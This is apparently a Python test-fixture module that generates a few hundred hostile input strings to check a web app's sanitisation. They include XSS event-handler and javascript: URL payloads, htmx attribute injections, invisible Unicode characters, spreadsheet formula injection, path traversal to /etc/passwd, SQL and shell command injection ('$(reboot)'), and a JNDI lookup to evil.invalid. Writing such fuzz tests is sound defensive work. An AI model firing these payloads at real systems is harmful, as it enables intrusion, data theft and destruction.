"""Some four hundred more hostile texts, made of what attacks are made of: handlers, schemes, ways out, signs that deceive.

Each is short, so that many stand in one run; `hostile.py` has those that are long, deep or of a kind of their own.
"""

from itertools import product
from urllib.parse import quote

from tests.hostile import AWAY, HOSTILE, RUN

# Elements that fire by themselves or when touched, and the handlers they fire.
FIRING = {
    "img src=x": "onerror", "image src=x": "onerror", "svg": "onload", "body": "onload", "body tabindex=1": "onfocus",
    "input autofocus": "onfocus", "input type=image src=x": "onerror", "select autofocus": "onfocus",
    "textarea autofocus": "onfocus", "keygen autofocus": "onfocus", "button autofocus": "onfocus", "a href=# autofocus": "onfocus",
    "video src=x": "onerror", "audio src=x": "onerror", "video><source": "onerror", "details open": "ontoggle",
    "div popover id=p": "onbeforetoggle", "marquee": "onstart", "marquee loop=1": "onfinish", "iframe": "onload",
    "object data=x": "onerror", "embed src=x": "onload", "link rel=stylesheet href=x": "onerror", "style": "onload",
    "script src=x": "onerror", "track src=x": "onerror", "frameset": "onload", "portal src=x": "onload",
    "svg><animate attributeName=x dur=1s": "onbegin", "svg><set attributeName=x": "onbegin", "svg><image href=x": "onerror",
    "math><mtext": "onfocus", "div style='animation:x 1s'": "onanimationstart", "div style='transition:1s'": "ontransitionend",
    "div contenteditable": "oninput", "form": "onsubmit", "p": "onpointerenter", "div": "onwheel", "xss tabindex=0": "onfocusin",
    "dialog open": "onclose", "meter": "onclick", "area": "onfocus", "table background=x": "onscroll", "div draggable=true": "ondragstart",
}  # fmt: skip
SPELLINGS = (
    "<{e} {h}={r}>",
    '<{E}/{H}="{r}"/>',
    "<{e}\n{h}\t=\n'{r}'>x</{n}>",
    '"><{e} {h}=`{r}`//',
    "&lt;{e} {h}={r}&gt;",
)
SCHEMES = (
    "javascript:{r}", "JaVaScRiPt:{r}", " javascript:{r}", "java\tscript:{r}", "java\nscript:{r}", "javascript&colon;{r}",
    "javascript&#58;{r}", "&#106;avascript:{r}", "\x01javascript:{r}", "javascript://%0a{r}", "//javascript:{r}", "view-source:javascript:{r}",
    "vbscript:{r}", "livescript:{r}", "data:text/html,<script>{r}</script>", "data:text/html;base64,PHNjcmlwdD4=", "blob:{a}", "file:///etc/passwd",
    "data:image/svg+xml,<svg onload={r}>", "filesystem:{a}", "about:blank#{r}", "feed:javascript:{r}", "jar:{a}!/", "ftp://evil.invalid/",
    "\\\\evil.invalid\\x", "/\\evil.invalid", "///evil.invalid", "http:evil.invalid", "https://runs.example@evil.invalid/", "//evil.invalid%2f..",
)  # fmt: skip
PLACES = ("[go]({u})", "![go]({u})", "<{u}>", "[go]: {u}\n\n[go]", '<a href="{u}">go</a>', "{u}")
ENDS = (
    "'", '"', "`", "-->", "]]>", "*/", "?>", "%>", "}}", "%}", "</script>", "</style>", "</textarea>", "</title>", "</template>",
    "</select>", "</option>", "</button>", "</svg>", "</math>", "</pre></code>", "</table>", "</dialog>", "</hx-partial>", "</main>",
)  # fmt: skip
LIVE = (
    "hx-get='/accounts/logout/'", "hx-post='/accounts/logout/'", "hx-delete=/", "hx-on:click='{r}'", "hx-on::load='{r}'", "hx-vals='js:{r}'",
    "hx-headers='js:{r}'", "hx-swap-oob=true id=main", "hx-swap-oob=innerHTML:#main", "hx-trigger='load' hx-get={a}", "hx-trigger='every 1s'",
    "hx-boost=true", "hx-include='*'", "hx-ext={a}", "hx-push-url={a}", "hx-action={a}", "hx-confirm=x", "hx-target=body", "hx-select=body",
    "data-hx-get={a}", "data-busy", "data-unsent", "data-copy={a}", "data-key=x", "data-poll", "id=main", "id=toasts", "id=problem", "name=csrfmiddlewaretoken",
    "style='position:fixed;inset:0'", "class='banner'", "slot=x", "is=x", "part=x", "popover", "popovertarget=x", "autofocus", "contenteditable", "accesskey=x",
)  # fmt: skip
SIGNS = [chr(number) for number in (*range(1, 32), *range(127, 160))] + [
    "\u00ad", "\u034f", "\u061c", "\u115f", "\u180e", "\u200b", "\u200c", "\u200d", "\u200e", "\u200f", "\u2028", "\u2029", "\u202a", "\u202b",
    "\u202c", "\u202d", "\u202e", "\u2060", "\u2066", "\u2067", "\u2068", "\u2069", "\u3164", "\ufeff", "\uffa0", "\ufff9", "\U000e0041", "\U0001d173",
]  # fmt: skip
OTHER = (
    "=HYPERLINK(\"{a}\")", "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "\t=1+1", "../../../../etc/passwd", "..%2f..%2fetc%2fpasswd", "%00", "%0d%0aSet-Cookie:%20x=1",
    "run_x/../../audit", "run_x?tab=raw#x", "' OR 1=1 --", '"; DROP TABLE index_run; --', "$(reboot)", "`reboot`", "| reboot", "{{{{7*7}}}}", "${{jndi:ldap://evil.invalid/x}}",
    "{{%% debug %%}}", "<?php {r} ?>", "<!--#exec cmd=x -->", "\\u003cscript\\u003e{r}\\u003c/script\\u003e", "\\x3cscript\\x3e", "%3Cscript%3E{r}%3C/script%3E", "+ADw-script+AD4-",
    "\uff1cscript\uff1e{r}\uff1c/script\uff1e", "9" * 400, "-1e999", "0x7fffffffffffffff", "NaN", "null", "undefined", "true", "[object Object]", "__proto__", "constructor",
)  # fmt: skip


def spelled(text: str) -> str:
    return text.format(r=RUN, a=AWAY)


def many() -> list[str]:
    """Every text once, in the same order each time."""
    firing = list(FIRING.items())
    texts = [
        spelling.format(e=element, h=handler, E=element.title(), H=handler.upper(), n=element.split()[0], r=RUN)
        for at, (element, handler) in enumerate(firing)
        for spelling in (SPELLINGS[at % len(SPELLINGS)], SPELLINGS[(at + 2) % len(SPELLINGS)])
    ]
    pairs = [pair for at, pair in enumerate(product(SCHEMES, PLACES)) if at % 2 == 0 or pair[1] == PLACES[0]]
    texts += [place.format(u=spelled(scheme)) for scheme, place in pairs]
    texts += [f"{end}<img src=x onerror={RUN}>" for end in ENDS] + [
        f"{end} onmouseover={RUN} x={end}" for end in ENDS[:3]
    ]
    texts += [f"<div {spelled(attribute)}>x</div>" for attribute in LIVE]
    texts += [f"admin{sign}nimda <b>{sign}</b>" for sign in SIGNS]
    texts += [spelled(text) for text in OTHER] + [
        quote(text) for _, text in HOSTILE if len(text) < 300 and "\ud800" not in text
    ]
    return list(dict.fromkeys(texts))


MANY = many()
